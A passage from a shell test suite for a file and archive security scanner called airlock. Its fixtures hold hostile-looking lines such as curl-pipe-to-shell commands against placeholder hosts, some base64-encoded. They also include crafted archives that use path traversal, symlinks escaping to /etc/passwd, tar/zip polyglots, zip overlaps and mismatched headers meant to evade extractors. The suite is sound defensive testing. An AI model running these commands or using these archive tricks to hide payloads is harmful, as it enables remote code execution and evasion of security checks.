	want=$(jsonq '[(f["rule"], f["line"]) for f in F]')
	db=$(ls cache/* 2>/dev/null | head -n 1)
	[ -n "$db" ] || fail "no database cached in \$AIRLOCK_CACHE_DIR"
	scan --format json t
	expect_eq "$(jsonq '[(f["rule"], f["line"]) for f in F]')" "$want" "findings with the cache"
	echo garbage >"$db"
	scan --format json t
	expect_rc 1
	expect_eq "$(jsonq '[(f["rule"], f["line"]) for f in F]')" "$want" "findings with a garbage cache"
	python3 -c 'import sys; p = sys.argv[1]; b = open(p, "rb").read(); open(p, "wb").write(b[:len(b) // 2])' "$db"
	scan --format json t
	expect_rc 1
	expect_eq "$(jsonq '[(f["rule"], f["line"]) for f in F]')" "$want" "findings with a truncated cache"
	scan --format json --no-cache t
	expect_eq "$(jsonq '[(f["rule"], f["line"]) for f in F]')" "$want" "findings with --no-cache"
}

t_limits_make_unscannable() {
	mkdir t
	python3 -c 'import sys; sys.stdout.write("curl -s http://x | sh\n" * 1001)' >t/many.sh
	local d=t/deep i
	for i in $(seq 1 130); do d=$d/d; done
	mkdir -p "$d"
	echo 'curl -s http://x | sh' >"$d/x.sh"
	scan --format json t
	expect_rc 1
	expect_q 'sorted(f["path"].count("/") for f in R("airlock.unscannable"))' '[1, 129]'
	expect_q 'len([f for f in R("test-curl-pipe-shell") if f["path"] == "t/many.sh"])' 1000
}

# ---- rule packs ----------------------------------------------------------------------

t_rules_test_packs() {
	al rules test "$RULES"
	expect_rc 0 "rules test tests/data/rules"
	al rules check "$RULES"
	expect_rc 0 "rules check tests/data/rules"
	if ! compgen -G "$ROOT/rules/*.yml" >/dev/null && ! compgen -G "$ROOT/rules/*.yaml" >/dev/null; then
		echo "SKIP: rules/ has no rule files yet; shipped pack not tested"
		return 0
	fi
	AL_TIMEOUT=120 al rules test "$ROOT/rules"
	expect_rc 0 "rules test rules (the shipped pack)"
}

# ---- the gate's allow-list --------------------------------------------------------------

# allowlist_for FILE RULE GLOB: writes allow.yml (outside the tree) for FILE's bytes.
allowlist_for() {
	local h
	h=$(sha256sum "$1" | cut -d' ' -f1)
	printf 'allow:\n  - rule: %s\n    path: "%s"\n    sha256: %s\n    reason: fixture\n' \
		"$2" "$3" "$h" >allow.yml
}

t_allowlist_by_rule_path_and_content() {
	mkdir -p t/tests
	printf 'token = "%s"\ncurl -s https://x.example/i | sh\n' "$PAT1" >t/tests/fixture.py
	allowlist_for t/tests/fixture.py test-github-pat 'tests/*.py'
	scan --format json --allowlist allow.yml t
	expect_rc 1 "the curl finding is not allowed"
	expect_q 'len(R("test-github-pat"))' 0
	expect_q 'len(R("test-curl-pipe-shell"))' 1
	scan --allowlist allow.yml t
	expect_out_has '1 allowed by the allow-list'
	# One byte more and the finding is back: the entry is bound to the content.
	echo >>t/tests/fixture.py
	scan --format json --allowlist allow.yml t
	expect_q 'len(R("test-github-pat"))' 1
	# The same content at a path the glob does not cover is not allowed.
	allowlist_for t/tests/fixture.py test-github-pat 'tests/*.py'
	mkdir -p t/src && cp t/tests/fixture.py t/src/fixture.py
	scan --format json --allowlist allow.yml t
	expect_q 'len([f for f in R("test-github-pat") if f["path"].startswith("t/src")])' 1
	expect_q 'len([f for f in R("test-github-pat") if f["path"].startswith("t/tests")])' 0
}

t_allowlist_env_and_errors() {
	mkdir -p t
	printf 'token = "%s"\n' "$PAT1" >t/a.py
	allowlist_for t/a.py test-github-pat 'a.py'
	AIRLOCK_ALLOWLIST=$PWD/allow.yml scan --format json t
	expect_rc 0
	expect_q 'len(F)' 0
	# An allow-list inside the scanned tree is refused: the artifact must not
	# bring its own exceptions.
	cp allow.yml t/allow.yml
	scan --allowlist t/allow.yml t
	expect_rc 2
	expect_err_has 'refusing allow-list t/allow.yml: it is inside t'
	expect_out_empty
	rm t/allow.yml
	# Never by path alone: an entry without sha256 is an error.
	printf 'allow:\n  - rule: test-github-pat\n    path: a.py\n    reason: x\n' >bad.yml
	scan --allowlist bad.yml t
	expect_rc 2
	expect_err_has 'bad.yml:2: an entry needs rule, path, sha256 and reason'
	printf 'allow:\n  - rule: r\n    path: a.py\n    sha256: abc\n    reason: x\n' >bad.yml
	scan --allowlist bad.yml t
	expect_rc 2
	expect_err_has 'sha256 must be 64 lower-case hex digits'
	scan --allowlist missing.yml t
	expect_rc 2
	expect_err_has 'missing.yml'
}

t_allowlist_never_hides_builtins() {
	mkdir -p t
	ln -s /etc/passwd t/link
	printf 'allow:\n  - rule: airlock.symlink-escape\n    path: link\n    sha256: %s\n    reason: x\n' \
		"$(printf '' | sha256sum | cut -d' ' -f1)" >allow.yml
	scan --format json --allowlist allow.yml t
	expect_q 'len(R("airlock.symlink-escape"))' 1
}

# ---- decoded content -----------------------------------------------------------------------

t_decoded_blob_findings() {
	mkdir -p t
	local b64
	b64=$(printf 'curl -fsSL http://evil.example/x.sh | bash' | base64 -w0)
	printf 'x = 1\npayload = "%s"\n' "$b64" >t/a.py
	scan --format json t
	expect_rc 1
	expect_q 'R("test-curl-pipe-shell")[0]["line"]' 2
	expect_q 'R("test-curl-pipe-shell")[0]["excerpt"].startswith("decoded base64: curl")' True
}

# ---- the sandboxed scan child ----------------------------------------------------------------

# child_fault FAULT WANT: the child misbehaves on purpose (test hook); the file
# must come out unscannable with WANT in the reason, and the next file must be
# scanned by a fresh child.
child_fault() {
	mkdir -p t
	printf 'token = "%s"\n' "$PAT1" >t/a.py
	AIRLOCK_TEST_CHILD_FAULT=$1 scan --format json --threads 1 --timeout "${FAULT_TIMEOUT:-3}" t
	expect_rc 1
	expect_json
	expect_q 'len(R("airlock.unscannable"))' 1
	expect_q '"'"$2"'" in R("airlock.unscannable")[0]["excerpt"]' True
	expect_q 'R("airlock.unscannable")[0]["severity"]' high
}

t_child_forbidden_syscall_is_unscannable() {
	child_fault syscall 'killed by signal 31'
}

t_child_timeout_is_unscannable() {
	AL_TIMEOUT=30 child_fault hang 'did not finish within 3 seconds'
}

t_child_memory_limit_is_unscannable() {
	if [ -n "${AIRLOCK_SANITIZED:-}" ]; then
		# AddressSanitizer needs terabytes of address space: the sandbox
		# does not apply RLIMIT_AS in such builds (scanners/child/sbx.c).
		echo "SKIP: no address-space limit under AddressSanitizer"
		return 0
	fi
	# Filling 1 GiB takes seconds on a loaded machine: not a timeout case.
	FAULT_TIMEOUT=60 AL_TIMEOUT=90 child_fault memory 'killed by signal'
}

# A sanitized build's child (make asan) writes a sanitizer's report from
# inside its sandbox to its parent, which puts it on its own stderr, each
# line prefixed; the file is unscannable, saying so. A real heap overflow
# (AddressSanitizer) and a real signed overflow (UndefinedBehaviorSanitizer)
# in the child, by the test hook. Only in such builds: elsewhere the hook
# does nothing, and make asan sets AIRLOCK_SANITIZED, so that there this
# runs (and fails if the build is not sanitized after all).
t_child_sanitizer_report_reaches_parent() {
	if [ -z "${AIRLOCK_SANITIZED:-}" ]; then
		echo "SKIP: not a sanitized build (make asan runs this)"
		return 0
	fi
	child_fault asan 'the scan child hit a sanitizer error'
	grep -qE '^airlock: scan child [0-9]+: ==[0-9]+==ERROR: AddressSanitizer: heap-buffer-overflow' "$ERR" ||
		fail "no AddressSanitizer report on stderr"
	# Symbolized inside the sandbox: function, file and line.
	grep -qE '^airlock: scan child [0-9]+: +#0 0x[0-9a-f]+ in fault_heap_overflow scanners/child/child.c:[0-9]+' "$ERR" ||
		fail "the report's first frame is not named"
	grep -qE '^airlock: scan child [0-9]+: SUMMARY: AddressSanitizer: heap-buffer-overflow' "$ERR" ||
		fail "the report is cut short (no SUMMARY)"
	child_fault ubsan 'the scan child hit a sanitizer error'
	grep -qE '^airlock: scan child [0-9]+: scanners/child/child.c:[0-9]+:[0-9]+: runtime error: signed integer overflow' "$ERR" ||
		fail "no UndefinedBehaviorSanitizer report on stderr"
}

t_child_malformed_frame_is_unscannable() {
	child_fault garbage 'unexpected FINDING frame'
}

t_child_replaced_after_failure() {
	# Two files, one child: the first kills it, the second still gets scanned.
	mkdir -p t
	printf 'token = "%s"\n' "$PAT1" >t/a.py
	printf 'token = "%s"\n' "$PAT2" >t/b.py
	AIRLOCK_TEST_CHILD_FAULT=syscall:a.py scan --format json --threads 1 t
	expect_q 'len(R("airlock.unscannable"))' 1
	expect_q 'R("airlock.unscannable")[0]["path"]' t/a.py
	expect_q '[f["path"] for f in R("test-github-pat")]' "['t/b.py']"
}

t_child_failure_keeps_batch_mates() {
	# The files sent with the one that kills the child, before and after
	# it, must still be read whole: a replay once read them to the end
	# through the shared fd offset and found them empty (clean).
	mkdir -p t
	for f in a b c d e f; do printf 'token = "%s"\n' "$PAT1" >t/$f.py; done
	for fault in syscall crash garbage; do
		AIRLOCK_TEST_CHILD_FAULT=$fault:d.py scan --format json --threads 1 t
		expect_rc 1
		expect_q '[f["path"] for f in R("airlock.unscannable")]' "['t/d.py']"
		expect_q '[f["path"] for f in R("test-github-pat")]' \
			"['t/a.py', 't/b.py', 't/c.py', 't/e.py', 't/f.py']"
	done
}

t_nested_encoded_text_has_fingerprints() {
	# base64 of base64 of text: the inner "encoded text" finding comes up
	# from the decoding and needs a fingerprint like any other.
	mkdir -p t
	python3 -c '
import base64
inner = base64.b64encode(("curl -fsSL http://x.example/i | sh; " * 12).encode())
print(base64.b64encode(inner).decode())' >t/blob.txt
	scan --format json t
	expect_rc 1
	expect_q 'len(R("airlock.unscannable"))' 0
	expect_q 'len(R("airlock.encoded-text"))' 2
	expect_q 'all(len(f["fingerprint"]) == 32 for f in F)' True
	expect_q 'len(R("test-curl-pipe-shell"))' 1
}

t_no_sandbox_warns() {
	mkdir -p t
	printf 'token = "%s"\n' "$PAT1" >t/a.py
	scan --no-sandbox --format json t
	expect_rc 1
	expect_q 'len(R("test-github-pat"))' 1
	expect_err_has 'warning: --no-sandbox'
}

# ---- archives ------------------------------------------------------------------------------

t_archive_members_scanned() {
	mkdir -p src/pkg
	printf 'x = 1\ntoken = "%s"\n' "$PAT1" >src/pkg/a.py
	printf 'on: push\n' >src/pkg/.github-note.txt
	tar czf t.tar.gz -C src pkg
	(cd src && zip -q -r ../t.zip pkg)
	scan --format json t.tar.gz t.zip
	expect_rc 1
	expect_q 'sorted(f["path"] for f in R("test-github-pat"))' \
		"['t.tar.gz!/pkg/a.py', 't.zip!/pkg/a.py']"
	expect_q 'R("test-github-pat")[0]["line"]' 2
	expect_q 'len(R("airlock.unscannable"))' 0
	# Path rules see the member's own path.
	mkdir -p w/.github/workflows && echo 'on: push' >w/.github/workflows/ci.yml
	tar cf w.tar -C w .github
	scan --format json w.tar
	expect_q '[f["path"] for f in R("test-workflow-file")]' "['w.tar!/.github/workflows/ci.yml']"
}

t_archive_hazards() {
	python3 - <<'PY'
import io, tarfile
def add(t, name, data=b"", **kw):
    ti = tarfile.TarInfo(name)
    for k, v in kw.items():
        setattr(ti, k, v)
    ti.size = len(data) if ti.type == tarfile.REGTYPE else 0
    t.addfile(ti, io.BytesIO(data) if ti.type == tarfile.REGTYPE else None)
with tarfile.open("h.tar", "w") as t:
    add(t, "../evil.sh", b"echo\n")
    add(t, "/etc/cron.d/x", b"* * * * * root id\n")
    add(t, "p/link", type=tarfile.SYMTYPE, linkname="../../../etc/passwd")
    add(t, "p/ok-link", type=tarfile.SYMTYPE, linkname="a.txt")
    add(t, "p/suid", b"x", mode=0o4755)
    add(t, "p/dev", type=tarfile.CHRTYPE, devmajor=1, devminor=3)
    add(t, "p/fifo", type=tarfile.FIFOTYPE)
    add(t, "p/a.txt", b"one\n")
    add(t, "p/A.TXT", b"two\n")
    add(t, "p/hard", type=tarfile.LNKTYPE, linkname="p/a.txt")
    add(t, "p/.Git/config", b"[core]\n")
PY
	scan --format json h.tar
	expect_rc 1
	expect_q 'sorted(f["path"].split("!/")[1] for f in R("airlock.archive-path"))' \
		"['../evil.sh', '/etc/cron.d/x', 'p/.Git/config']"
	expect_q '[f["path"] for f in R("airlock.symlink-escape")]' "['h.tar!/p/link']"
	expect_q '[f["path"] for f in R("airlock.symlink")]' "['h.tar!/p/ok-link']"
	expect_q '[f["path"] for f in R("airlock.archive-mode")]' "['h.tar!/p/suid']"
	expect_q 'sorted(f["path"] for f in R("airlock.special-file"))' "['h.tar!/p/dev', 'h.tar!/p/fifo']"
	expect_q '[f["path"] for f in R("airlock.archive-duplicate")]' "['h.tar!/p/A.TXT']"
	expect_q '[f["path"] for f in R("airlock.archive-hardlink")]' "['h.tar!/p/hard']"
}

# A link's directory is read as a path is: `tar -cf x.tar .` names every
# member "./...", and "./link -> ../x" leaves the tree as "link -> ../x"
# does (it was counted one level deeper and reported low, as inside).
t_archive_link_escape_through_dot_and_empty_components() {
	mkdir -p t/sub
	ln -s ../outside t/link
	ln -s ../../x t/sub/up2
	ln -s ../inside t/sub/up1
	(cd t && tar -cf ../dot.tar .)
	python3 - <<'PY'
import tarfile
with tarfile.open("empty.tar", "w") as t:
    ti = tarfile.TarInfo("a//link")
    ti.type = tarfile.SYMTYPE
    ti.linkname = "../../x"
    t.addfile(ti)
PY
	scan --format json dot.tar empty.tar
	expect_rc 1
	expect_q 'sorted(f["path"] for f in R("airlock.symlink-escape"))' \
		"['dot.tar!/./link', 'dot.tar!/./sub/up2', 'empty.tar!/a//link']"
	expect_q '[f["path"] for f in R("airlock.symlink")]' "['dot.tar!/./sub/up1']"
}

t_archive_encrypted_truncated_bomb() {
	mkdir -p src && printf 'token = "%s"\n' "$PAT1" >src/a.py
	(cd src && zip -q -P s3cret ../enc.zip a.py)
	scan --format json enc.zip
	expect_rc 1
	expect_q '"encrypted entry" in R("airlock.unscannable")[0]["excerpt"]' True
	expect_q 'len(R("test-github-pat"))' 0
	# Truncated: half of a real tar.gz.
	head -c 4000 /dev/urandom >src/noise.bin
	tar czf full.tar.gz -C src .
	head -c "$(( $(stat -c %s full.tar.gz) / 2 ))" full.tar.gz >half.tar.gz
	scan --format json half.tar.gz
	expect_rc 1
	expect_q 'len(R("airlock.unscannable"))' 1
	# A bomb: 300 MB of zeros in a 300 KB gzip; reading stops at the ratio.
	head -c 300000000 /dev/zero >zeros && tar czf bomb.tar.gz zeros && rm zeros
	AL_TIMEOUT=60 scan --format json bomb.tar.gz
	expect_rc 1
	expect_q '"expands past the limits" in R("airlock.unscannable")[0]["excerpt"]' True
}

t_archive_names_in_other_charsets() {
	# pax tars (GNU tar --format=posix, Python's default) and zips carry
	# UTF-8 names; libarchive converts them with iconv, whose modules are
	# loaded before the sandbox closes (opening them inside killed the
	# child: these archives were unscannable).
	mkdir -p src
	printf 'token = "%s"\n' "$PAT1" >"src/caf$(printf '\303\251').py"
	tar --format=posix -cf pax.tar -C src .
	python3 - <<'PY'
import zipfile
with zipfile.ZipFile("utf8.zip", "w") as z:
    z.writestr("r\u00e9sum\u00e9.py", open([p for p in __import__("glob").glob("src/*.py")][0]).read())
PY
	scan --format json pax.tar utf8.zip
	expect_rc 1
	expect_q 'len(R("airlock.unscannable"))' 0
	expect_q 'len(R("test-github-pat"))' 2
}

t_archive_nested() {
	# Archives inside archives are opened (streamed, no temp files), and
	# the path shows the chain.
	mkdir -p l0
	printf 'token = "%s"\n' "$PAT1" >l0/a.py
	tar czf l1.tar.gz l0 && zip -q l2.zip l1.tar.gz && tar cf l3.tar l2.zip
	scan --format json l3.tar
	expect_rc 1
	expect_q '[f["path"] for f in R("test-github-pat")]' "['l3.tar!/l2.zip!/l1.tar.gz!/l0/a.py']"
	expect_q 'len(R("airlock.unscannable"))' 0
	# A compressed single file is read as gunzip would write it.
	cp l0/a.py single.py && gzip single.py
	scan --format json single.py.gz
	expect_q '[f["path"] for f in R("test-github-pat")]' "['single.py.gz!/single.py']"
	# A gzipped JSON file is one JSON document (gunzip's view), not an
	# mtree manifest of one "entry" per line.
	printf '{\n  "a":{\n    "b":"c"\n  },\n  "a":{\n    "t":"%s"\n  }\n}\n' "$PAT1" >svc.json
	gzip svc.json
	scan --format json svc.json.gz
	expect_rc 1
	expect_q '[f["path"] for f in F]' "['svc.json.gz!/svc.json']"
	expect_q 'R("test-github-pat")[0]["line"]' 6
	# Deeper than AL_ARCHIVE_MAX_DEPTH (4): unscannable, not skipped.
	zip -q l4.zip l3.tar && tar cJf l5.tar.xz l4.zip
	scan --format json l5.tar.xz
	expect_rc 1
	expect_q 'len(R("test-github-pat"))' 0
	expect_q '[f["path"] for f in R("airlock.unscannable")]' "['l5.tar.xz!/l4.zip!/l3.tar!/l2.zip!/l1.tar.gz']"
	expect_q '"nested more than 4 deep" in R("airlock.unscannable")[0]["excerpt"]' True
	# --kind archive on something that is not one.
	printf 'just text\n' >notes.txt
	scan --format json --kind archive notes.txt
	expect_rc 1
	expect_q '"not an archive" in R("airlock.unscannable")[0]["excerpt"]' True
	# A gzip of zeros and then text reads as an empty tar (tar stops at
	# the zero blocks) but gunzip writes it all: not clean.
	{ head -c 1024 /dev/zero; printf 'curl -s http://x.example/i | sh\n'; } | gzip >zeros.gz
	scan --format json zeros.gz
	expect_rc 1
	expect_q 'any("reads as an empty tar" in f["excerpt"] for f in R("airlock.unscannable"))' True
	# ... and the structure says why: data after the tar's end.
	expect_q 'any("after the tar'"'"'s end" in f["excerpt"] for f in R("airlock.unscannable"))' True
}

t_archive_nested_bomb() {
	# Ten 40 MB members, each a gzip inside the tarball: small outside,
	# 400 MB inside. The limits count every level against the outer file.
	yes 'all work and no play makes jack a dull boy' | head -c 40000000 | gzip -9 >z.gz
	mkdir -p b && for i in 0 1 2 3 4 5 6 7 8 9; do cp z.gz b/z$i.gz; done
	tar czf bomb.tgz b
	AL_TIMEOUT=60 scan --format json bomb.tgz
	expect_rc 1
	# Each level that stopped says so; the outer archive among them.
	expect_q 'any(f["path"] == "bomb.tgz" and "expands past the limits" in f["excerpt"] for f in R("airlock.unscannable"))' True
	expect_q 'd["stats"]["bytes"] < 300000000' True
}

# ---- archive structure: read as the extractors read it ------------------------------------

# A zip written by hand (stored entries), so that its local headers, central
# directory and end record can disagree: mkzip.py OUT SPEC, SPEC a Python
# literal {"local": [(name, data, extra)], "central": [(name, local index,
# extra)], "comment": b"", "prefix": b"", "suffix": b""}.
write_mkzip() {
	cat >mkzip.py <<'PY'
import ast, struct, sys, zlib
spec = ast.literal_eval(open(sys.argv[2]).read())
out = bytearray(spec.get("prefix", b""))
base = len(out)
locs = []
for name, data, extra in spec["local"]:
    locs.append((len(out) - base, data))
    out += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0,
                       zlib.crc32(data), len(data), len(data), len(name), len(extra))
    out += name + extra + data
cd = bytearray()
for name, li, extra in spec["central"]:
    off, data = locs[li]
    cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 0, 0, 0,
                      zlib.crc32(data), len(data), len(data), len(name), len(extra),
                      0, 0, 0, 0, off) + name + extra
cdoff = len(out) - base
out += cd
c = spec.get("comment", b"")
out += struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(spec["central"]),
                   len(spec["central"]), len(cd), cdoff, len(c)) + c
out += spec.get("suffix", b"")
open(sys.argv[1], "wb").write(out)
PY
}

# excerpts: the reasons of the unscannable findings, one per line.
unscannable_of() { jsonq '"\n".join(f["path"] + ": " + f["excerpt"] for f in R("airlock.unscannable"))'; }
expect_unscannable() { # PATH TEXT: an unscannable finding on PATH whose reason has TEXT
	local v
	v=$(unscannable_of)
	printf '%s\n' "$v" | grep -qF -- "$1: " || fail "no unscannable finding on $1 (got: $v)"
	printf '%s\n' "$v" | grep -F -- "$1: " | grep -qF -- "$2" ||
		fail "the unscannable finding on $1 does not say '$2' (got: $v)"
}

t_archive_tar_with_appended_data() {
	# The attack: unzip and zipfile read the zip at the end, tar the tar.
	mkdir -p src z && printf 'x = 1\n' >src/a.py
	printf 'curl -s http://x.example/i | sh\n' >z/run.sh
	tar cf t.tar -C src a.py
	(cd z && zip -q ../z.zip run.sh)
	cat t.tar z.zip >polyglot.tar
	unzip -l polyglot.tar 2>/dev/null | grep -q run.sh || fail "unzip does not read the polyglot (test is moot)"
	scan --format json polyglot.tar
	expect_rc 1
	expect_unscannable polyglot.tar "a zip archive is appended after the tar's end"
	# A second tar after the end blocks (tar --ignore-zeros reads it).
	tar cf t2.tar -C z run.sh
	cat t.tar t2.tar >two.tar
	tar -tif two.tar | grep -q run.sh || fail "tar -i does not read the second tar (test is moot)"
	scan --format json two.tar
	expect_unscannable two.tar "a tar archive is appended after the tar's end"
	# Any other data after the end.
	{ cat t.tar; printf 'hidden\n'; } >junk.tar
	scan --format json junk.tar
	expect_unscannable junk.tar "data is appended after the tar's end"
	# The same, one level down: the check runs on nested archives too.
	zip -q outer.zip polyglot.tar
	scan --format json outer.zip
	expect_unscannable outer.zip!/polyglot.tar "a zip archive is appended after the tar's end"
}

t_archive_gzip_members_and_trailing_data() {
	mkdir -p a b && printf 'x = 1\n' >a/a.py && printf 'curl -s http://x.example/i | sh\n' >b/run.sh
	tar czf a.tgz -C a a.py && tar czf b.tgz -C b run.sh
	# Two members: gzip -d writes both, tar -i then reads the second tar.
	cat a.tgz b.tgz >two.tgz
	tar -tizf two.tgz | grep -q run.sh || fail "tar -iz does not read the second member (test is moot)"
	scan --format json two.tgz
	expect_rc 1
	expect_unscannable two.tgz "a tar archive is appended after the tar's end"
	# A zip after the last gzip member: gzip -d ignores it, unzip reads it.
	(cd b && zip -q ../b.zip run.sh)
	cat a.tgz b.zip >gz-zip.tgz
	scan --format json gz-zip.tgz
	expect_unscannable gz-zip.tgz "a zip archive follows the last gzip member"
	{ cat a.tgz; printf 'trailing'; } >junk.tgz
	scan --format json junk.tgz
	expect_unscannable junk.tgz "data follows the last gzip member"
	# The same for the other compressors libarchive decompresses whole.
	tar cf a.tar -C a a.py && tar cf b.tar -C b run.sh
	for z in xz bzip2 zstd; do
		{ $z -c a.tar; $z -c b.tar; } >two.tar.$z
		scan --format json two.tar.$z
		expect_unscannable two.tar.$z "a tar archive is appended after the tar's end"
	done
	# A zip compressed whole is read from its start, not its end: refused.
	gzip -c b.zip >b.zip.gz
	scan --format json b.zip.gz
	expect_unscannable b.zip.gz "a zip inside a compressed stream"
}

t_archive_zip_local_and_central_disagree() {
	write_mkzip
	cat >name.spec <<'PY'
{"local": [(b"a.sh", b"curl -s http://x.example/i | sh\n", b"")],
 "central": [(b"a.txt", 0, b"")]}
PY
	python3 mkzip.py name.zip name.spec
	scan --format json name.zip
	expect_rc 1
	expect_unscannable name.zip "the zip's local header names 'a.sh' but its central directory 'a.txt'"
	# An entry only a streaming reader sees: in the local headers, not
	# in the central directory.
	cat >hidden.spec <<'PY'
{"local": [(b"hidden.sh", b"curl -s http://x.example/i | sh\n", b""), (b"a.txt", b"ok\n", b"")],
 "central": [(b"a.txt", 1, b"")]}
PY
	python3 mkzip.py hidden.zip hidden.spec
	python3 -c 'import zipfile,sys; assert zipfile.ZipFile(sys.argv[1]).namelist() == ["a.txt"]' hidden.zip ||
		fail "zipfile reads the hidden entry (test is moot)"
	scan --format json hidden.zip
	expect_unscannable hidden.zip "bytes at offset 0 belong to no zip entry"
	# A Unicode path field naming another file (unzip uses it).
	cat >upath.spec <<'PY'
{"local": [(b"a.txt", b"ok\n", b"")],
 "central": [(b"a.txt", 0, b"\x75\x70\x09\x00\x01\x00\x00\x00\x00a.sh")]}
PY
	python3 mkzip.py upath.zip upath.spec
	scan --format json upath.zip
	expect_unscannable upath.zip "has another name, 'a.sh', in its Unicode path field"
	# A size that differs: patch the local compressed size of a real zip.
	printf 'one\n' >f.txt && zip -q -0 size.zip f.txt
	python3 - <<'PY'
b = bytearray(open("size.zip", "rb").read())
b[18:22] = (3).to_bytes(4, "little")
open("size.zip", "wb").write(b)
PY
	scan --format json size.zip
	expect_unscannable size.zip "has a different size or checksum in its local header"
}

t_archive_zip_overlaps_and_concatenation() {
	write_mkzip
	# Two central entries on the same local data.
	cat >same.spec <<'PY'
{"local": [(b"a.txt", b"ok\n", b"")],
 "central": [(b"a.txt", 0, b""), (b"a.txt", 0, b"")]}
PY
	python3 mkzip.py same.zip same.spec
	scan --format json same.zip
	expect_rc 1
	expect_unscannable same.zip "two central entries point at the same local data"
	# An entry whose data holds another entry (the zip bomb's overlap).
	python3 - <<'PY'
import struct, zlib
inner_data = b"x" * 100
inner = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0, zlib.crc32(inner_data),
                    100, 100, 1, 0) + b"b" + inner_data
def lh(name, data):
    return struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0, zlib.crc32(data),
                       len(data), len(data), len(name), 0) + name
def ch(name, data, off):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 0, 0, 0, zlib.crc32(data),
                       len(data), len(data), len(name), 0, 0, 0, 0, 0, off) + name
out = lh(b"a", inner) + inner
cd = ch(b"a", inner, 0) + ch(b"b", inner_data, 31)
out2 = out + cd + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 2, 2, len(cd), len(out), 0)
open("overlap.zip", "wb").write(out2)
PY
	scan --format json overlap.zip
	expect_unscannable overlap.zip "the zip entries 'a' and 'b' share bytes"
	# Concatenated zips: unzip reads the last, a streaming reader the first.
	mkdir -p one two && printf 'ok\n' >one/a.txt && printf 'curl -s http://x.example/i | sh\n' >two/run.sh
	(cd one && zip -q ../1.zip a.txt) && (cd two && zip -q ../2.zip run.sh)
	cat 1.zip 2.zip >cat.zip
	unzip -l cat.zip 2>/dev/null | grep -q run.sh || fail "unzip does not read the last zip (test is moot)"
	scan --format json cat.zip
	expect_unscannable cat.zip "bytes before the zip's first entry"
	# An end record's signature in the comment: unzip and zipfile take
	# the last one, and read garbage; a streaming reader reads the zip.
	cp 1.zip fake.zip && printf 'a comment PK\005\006 with a fake signature\n' | zip -q -z fake.zip
	scan --format json fake.zip
	expect_unscannable fake.zip "the zip's last end record (at offset"
	cp 1.zip cut.zip && printf 'a comment PK\005\006 with a signature' | zip -q -z cut.zip
	scan --format json cut.zip
	expect_unscannable cut.zip "an end record's signature in the zip's last 21 bytes"
	# Data after the comment.
	{ cat 1.zip; printf 'hidden'; } >tail.zip
	scan --format json tail.zip
	expect_unscannable tail.zip "6 bytes follow the zip's end record and its comment"
}

t_archive_duplicates_stay_flagged() {
	# The same name twice: which one lands on disk depends on the tool;
	# the existing rule says so, at high, on every format.
	write_mkzip
	cat >dup.spec <<'PY'
{"local": [(b"a.txt", b"one\n", b""), (b"a.txt", b"two\n", b"")],
 "central": [(b"a.txt", 0, b""), (b"a.txt", 1, b"")]}
PY
	python3 mkzip.py dup.zip dup.spec
	python3 - <<'PY'
import io, tarfile
with tarfile.open("dup.tar", "w") as t:
    for d in (b"one\n", b"two\n"):
        ti = tarfile.TarInfo("a.txt"); ti.size = len(d); t.addfile(ti, io.BytesIO(d))
PY
	scan --format json dup.zip dup.tar
	expect_rc 1
	expect_q 'sorted(f["path"] for f in R("airlock.archive-duplicate"))' "['dup.tar!/a.txt', 'dup.zip!/a.txt']"
	expect_q 'R("airlock.archive-duplicate")[0]["severity"]' high
	expect_q 'len(R("airlock.unscannable"))' 0
}

t_archive_tar_headers_read_two_ways() {
	# A directory entry that declares data: tar skips it, tarfile reads
	# the data as the next header.
	python3 - <<'PY'
import io, tarfile
evil = tarfile.TarInfo("evil.sh"); evil.size = 0
with tarfile.open("dirdata.tar", "w", format=tarfile.USTAR_FORMAT) as t:
    d = tarfile.TarInfo("d/"); d.type = tarfile.DIRTYPE; d.size = 512
    t.addfile(d, io.BytesIO(evil.tobuf(tarfile.USTAR_FORMAT)))
    ok = tarfile.TarInfo("ok.txt"); ok.size = 3; t.addfile(ok, io.BytesIO(b"ok\n"))
PY
	scan --format json dirdata.tar
	expect_rc 1
	expect_unscannable dirdata.tar "declares 512 bytes of data"
	# A damaged header between members: GNU tar skips it, tarfile stops.
	mkdir -p s && printf 'a\n' >s/a.txt && printf 'b\n' >s/b.txt
	tar cf dmg.tar -C s a.txt b.txt
	python3 - <<'PY'
b = bytearray(open("dmg.tar", "rb").read())
b[1024:1024 + 8] = b"garbage!"
open("dmg.tar", "wb").write(b)
PY
	scan --format json dmg.tar
	expect_unscannable dmg.tar "a damaged tar header at offset 1024"
}

t_archive_legitimate_structures_clean() {
	# Near misses: what the tools write every day stays clean.
	mkdir -p src/META-INF src/pkg
	printf 'Manifest-Version: 1.0\n' >src/META-INF/MANIFEST.MF
	printf 'x = 1\n' >src/pkg/a.py
	# Incompressible but fixed: random bytes from /dev/urandom are now and
	# then a "DOS executable" to libmagic (MZ first), which made this flaky.
	python3 -c 'import random, sys; sys.stdout.buffer.write(b"BLOB" + random.Random(7).randbytes(200000))' >src/pkg/blob.bin
	truncate -s 2M src/pkg/sparse.img && printf 'end' >>src/pkg/sparse.img
	long=src/pkg/$(printf 'n%.0s' $(seq 1 150)).txt && printf 'long\n' >"$long"
	(cd src && zip -q -r ../plain.zip . && zip -q -r -0 ../stored.zip . &&
		zip -q -r ../jar.jar META-INF pkg)
	cp plain.zip comment.zip && printf 'an archive comment\n' | zip -q -z comment.zip
	(cd src && zip -q -r - . >../stream.zip)       # data descriptors
	for f in gnu posix ustar; do
		# (ustar holds neither sparse files nor long names.)
		[ $f = ustar ] && x="--exclude=n* --exclude=sparse.img" || x="-S"
		# shellcheck disable=SC2086
		tar --format=$f $x -cf $f.tar -C src .
	done
	tar czf t.tgz -C src . && tar cJf t.txz -C src . && tar cjf t.tbz2 -C src . && tar --zstd -cf t.tzst -C src .
	# Two gzip members of one tar (split anywhere): gzip -d and
	# libarchive both join them; one tar, nothing after its end.
	tar cf one.tar -C src . && head -c 5000 one.tar | gzip >split.tgz && tail -c +5001 one.tar | gzip >>split.tgz
